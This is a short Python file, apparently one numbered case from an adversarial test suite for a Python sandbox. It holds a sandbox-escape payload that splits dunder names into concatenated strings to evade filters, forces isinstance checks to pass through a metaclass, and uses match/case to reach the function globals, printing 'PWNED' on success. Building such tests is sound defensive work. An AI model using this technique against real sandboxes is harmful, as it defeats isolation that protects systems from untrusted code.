# adversary round 4: 002_match_decorated
import json
g = "__glo" + "bals__"
M = type("M", (type,), {"__instance" + "check__": lambda c, o: True})
def deco(c):
    return M("P", (), {"__match" + "_args__": (g,)})
@deco
class P:
    pass
match json.dumps:
    case P(x):
        print(type(x), x.get("__name__"))
        print("PWN" + "ED")
